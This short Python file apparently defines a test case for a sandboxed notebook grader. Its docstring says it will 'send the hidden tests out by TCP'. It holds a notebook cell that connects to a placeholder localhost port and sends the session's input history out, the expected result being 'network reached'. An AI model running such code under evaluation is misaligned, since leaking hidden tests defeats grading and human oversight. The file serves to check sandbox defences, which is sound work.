"""Send the hidden tests out by TCP."""

CLASS = "2"
STOCK = "network reached"
CELLS = {
    "last": """\
import socket
with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as line:
    line.sendall(("@MARK@" + "".join(In)).encode()[:9000])
"""
}
